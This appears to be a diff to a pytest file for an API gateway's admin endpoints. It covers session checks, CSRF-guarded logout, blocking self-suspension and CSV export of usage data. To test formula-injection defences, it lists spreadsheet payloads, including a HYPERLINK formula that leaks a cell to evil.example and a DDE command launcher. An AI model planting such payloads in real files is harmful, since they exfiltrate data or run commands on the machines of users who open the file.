@@ -15,9 +15,11 @@ import aiohttp
 import pytest
 
 from gateway.keys import OBSERVER
+from gateway.mcp.inbound import VERSIONS
 from gateway.observability.usage import RequestQuery, UsageRecord, UsageStore
 from tests.conftest import ALICE, BOB, Gateway, bearer, standard_config
 from tests.fakes.openai_upstream import FakeOpenAI, Script
+from tests.mcp.conftest import stdio_server
 from tests.procs import run
 
 ADMIN = "lr-admin-secret-0123456789abcdefgh"
@@ -85,15 +87,17 @@ async def test_login_sets_a_session_cookie_and_csrf_guards_actions(agw: Gateway)
         async with http.post(agw.url + API + "/clients/bob/suspend", headers={"X-CSRF-Token": doc["csrf"]}) as resp:
             assert resp.status == 200, await resp.text()
             assert await resp.json() == {"name": "bob", "suspended": True}
-        async with http.post(agw.url + API + "/logout") as resp:
+        async with http.post(agw.url + API + "/logout", headers={"X-CSRF-Token": doc["csrf"]}) as resp:
             assert resp.status == 204
         async with http.get(agw.url + API + "/session") as resp:
-            assert resp.status == 401
+            assert resp.status == 200
+            assert await resp.json() == {"client": None}
     async with aiohttp.ClientSession() as http:  # a Bearer caller needs no CSRF token
         async with http.post(agw.url + API + "/clients/bob/resume", headers=bearer(ADMIN)) as resp:
             assert resp.status == 200
         async with http.get(agw.url + API + "/session", headers=bearer(ADMIN)) as resp:
-            assert resp.status == 401  # no session: nothing to show
+            assert resp.status == 200
+            assert await resp.json() == {"client": None}  # no session: nothing to show
 
 
 async def test_a_forged_or_foreign_cookie_is_refused(agw: Gateway, http: aiohttp.ClientSession) -> None:
@@ -384,3 +388,140 @@ async def test_overview_cache_and_firewall_and_the_providers_pools(
     doc = await get(http, gw, "/overview")
     assert doc["cache"] is None and doc["firewall"] is None and doc["streams_in_flight"] is None
     assert {t["requests"] for t in (await get(http, gw, "/providers"))["pools"][0]["targets"]} == {None}
+
+
+async def test_session_check_before_login_is_no_error(agw: Gateway, http: aiohttp.ClientSession) -> None:
+    """A page asks who is logged in before anyone did: an answer, not a 401 (a browser logs every 401)."""
+    for headers in ({}, {"Cookie": "lr_admin=garbage"}, {"Cookie": "lr_admin=lras.e30.AAAA"}):
+        async with http.get(agw.url + API + "/session", headers=headers) as resp:
+            assert resp.status == 200, headers
+            assert await resp.json() == {"client": None}
+    async with http.get(agw.url + API + "/session", headers=bearer("lr-wrong-secret-0123456789abcdef")) as resp:
+        assert resp.status == 401  # a credential sent must still hold
+    async with http.get(agw.url + API + "/session", headers={"x-api-key": "lr-wrong-secret-0123456789abcdef"}) as resp:
+        assert resp.status == 401
+    async with http.get(agw.url + API + "/session", headers=bearer(ALICE)) as resp:
+        assert resp.status == 403
+        assert (await resp.json())["error"]["code"] == "admin_required"
+    async with http.get(agw.url + API + "/clients", headers={"Cookie": "lr_admin=garbage"}) as resp:
+        assert resp.status == 401  # every other admin endpoint still wants a live session
+        assert (await resp.json())["error"]["code"] == "session_expired"
+
+
+async def _login_cookie(gw: Gateway) -> tuple[str, str]:
+    """(cookie value, csrf token) of a fresh login."""
+    jar = aiohttp.CookieJar(unsafe=True)
+    async with aiohttp.ClientSession(cookie_jar=jar) as http:
+        async with http.post(gw.url + API + "/login", json={"secret": ADMIN}) as resp:
+            assert resp.status == 200
+            csrf = (await resp.json())["csrf"]
+    return next(c.value for c in jar if c.key == "lr_admin"), csrf
+
+
+def with_cookie(cookie: str, csrf: str | None = None) -> dict[str, str]:
+    return {"Cookie": f"lr_admin={cookie}", **({"X-CSRF-Token": csrf} if csrf else {})}
+
+
+async def test_logout_needs_the_csrf_token_and_ends_the_session_for_every_copy(
+    agw: Gateway, http: aiohttp.ClientSession
+) -> None:
+    (cookie, csrf), (other, other_csrf) = await _login_cookie(agw), await _login_cookie(agw)
+    assert cookie != other and csrf != other_csrf  # two logins in the same second: two sessions
+    async with http.post(agw.url + API + "/logout", headers=with_cookie(cookie)) as resp:
+        assert resp.status == 403  # a cross-site form cannot log an admin out
+        assert (await resp.json())["error"]["code"] == "csrf_failed"
+    async with http.post(agw.url + API + "/logout", headers=with_cookie(cookie, other_csrf)) as resp:
+        assert resp.status == 403
+    async with http.get(agw.url + API + "/session", headers=with_cookie(cookie)) as resp:
+        assert (await resp.json())["client"] == "root"  # still logged in
+    async with http.post(agw.url + API + "/logout", headers=with_cookie(cookie, csrf)) as resp:
+        assert resp.status == 204
+        assert "lr_admin=" in resp.headers["Set-Cookie"]  # cleared in the browser
+    # a copy of the cookie kept from before the logout: refused
+    async with http.get(agw.url + API + "/session", headers=with_cookie(cookie)) as resp:
+        assert await resp.json() == {"client": None}
+    async with http.get(agw.url + API + "/clients", headers=with_cookie(cookie)) as resp:
+        assert resp.status == 401
+        assert (await resp.json())["error"]["code"] == "session_expired"
+    async with http.post(agw.url + API + "/clients/bob/suspend", headers=with_cookie(cookie, csrf)) as resp:
+        assert resp.status == 401
+    async with http.post(agw.url + API + "/logout", headers=with_cookie(cookie)) as resp:
+        assert resp.status == 204  # over already: nothing to protect
+    async with http.get(agw.url + API + "/clients", headers=with_cookie(other)) as resp:
+        assert resp.status == 200  # the other session lives on
+
+
+async def test_an_admin_cannot_suspend_their_own_client(agw: Gateway, http: aiohttp.ClientSession) -> None:
+    async with http.post(agw.url + API + "/clients/root/suspend", headers=bearer(ADMIN)) as resp:
+        assert resp.status == 409
+        error = (await resp.json())["error"]
+    assert error["code"] == "cannot_suspend_self" and error["param"] == "name" and "own client" in error["message"]
+    assert error["type"] == "invalid_request_error"
+    cookie, csrf = await _login_cookie(agw)
+    async with http.post(agw.url + API + "/clients/root/suspend", headers=with_cookie(cookie, csrf)) as resp:
+        assert resp.status == 409
+    clients = {c["name"]: c for c in (await get(http, agw, "/clients"))["clients"]}
+    assert clients["root"]["suspended"] is False  # and still in
+    async with http.post(agw.url + API + "/clients/root/resume", headers=bearer(ADMIN)) as resp:
+        assert resp.status == 200  # resuming oneself changes nothing, harmlessly
+
+
+async def test_a_suspended_client_gets_no_access_token(agw: Gateway, http: aiohttp.ClientSession) -> None:
+    form = {"grant_type": "client_credentials", "client_id": "alice", "client_secret": ALICE}
+    async with http.post(agw.url + "/oauth/token", data=form) as resp:
+        assert resp.status == 200
+    async with http.post(agw.url + API + "/clients/alice/suspend", headers=bearer(ADMIN)) as resp:
+        assert resp.status == 200
+    async with http.post(agw.url + "/oauth/token", data=form) as resp:
+        assert resp.status == 401
+        body = await resp.json()
+        assert body["error"] == "client_suspended" and "suspended" in body["error_description"]
+        assert "access_token" not in body
+    async with http.post(agw.url + API + "/clients/alice/resume", headers=bearer(ADMIN)) as resp:
+        assert resp.status == 200
+    async with http.post(agw.url + "/oauth/token", data=form) as resp:
+        assert resp.status == 200
+
+
+FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(1+1)", "\tx", "\rx")
+
+
+async def _mcp_calls(http: aiohttp.ClientSession, url: str, names: tuple[str, ...]) -> None:
+    """A client calls tools by these names (none exists): each call is a usage record under its name."""
+    headers = {**bearer(ALICE), "Accept": "application/json, text/event-stream", "MCP-Protocol-Version": VERSIONS[-1]}
+    hello = {"protocolVersion": VERSIONS[-1], "capabilities": {}, "clientInfo": {"name": "t", "version": "1"}}
+    init = {"jsonrpc": "2.0", "id": 0, "method": "initialize", "params": hello}
+    async with http.post(url + "/mcp", json=init, headers=headers) as resp:
+        assert resp.status == 200, await resp.text()
+        headers["Mcp-Session-Id"] = resp.headers["Mcp-Session-Id"]
+    for i, name in enumerate(names, 1):
+        call = {"jsonrpc": "2.0", "id": i, "method": "tools/call", "params": {"name": name, "arguments": {}}}
+        async with http.post(url + "/mcp", json=call, headers=headers) as resp:
+            assert resp.status == 200, await resp.text()
+
+
+async def test_csv_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(
+    upstreams: tuple[FakeOpenAI, FakeOpenAI],
+    start_gateway: Callable[..., Awaitable[Gateway]],
+    http: aiohttp.ClientSession,
+    tmp_path: Any,
+) -> None:
+    data = admin_config(*upstreams, mcp_servers=[stdio_server("files", tmp_path / "marker")])
+    data["strategies"][0]["mcp"] = ["*"]
+    gw = await start_gateway(data)
+    await _mcp_calls(http, gw.url, ("files__echo", *FORMULAS))
+    await flushed(gw)
+    rows = (await get(http, gw, "/usage?by=tool"))["rows"]
+    assert {r["tool"] for r in rows} == {"files__echo", *FORMULAS}  # the JSON holds the names as they are
+    async with http.get(gw.url + API + "/usage?by=tool&format=csv", headers=bearer(ADMIN)) as resp:
+        assert resp.status == 200
+        table = list(csv.DictReader(io.StringIO(await resp.text(), newline="")))
+    tools = {r["tool"] for r in table}
+    assert tools == {"files__echo", *("'" + name for name in FORMULAS)}
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in table for cell in r.values())
+    by_tool = {r["tool"]: r for r in rows}  # every other cell as in the JSON
+    for r in table:
+        name = r["tool"] if r["tool"] == "files__echo" else r["tool"][1:]
+        assert {k: v for k, v in r.items() if k != "tool"} == {
+            k: "" if v is None else str(v) for k, v in by_tool[name].items() if k != "tool"
+        }
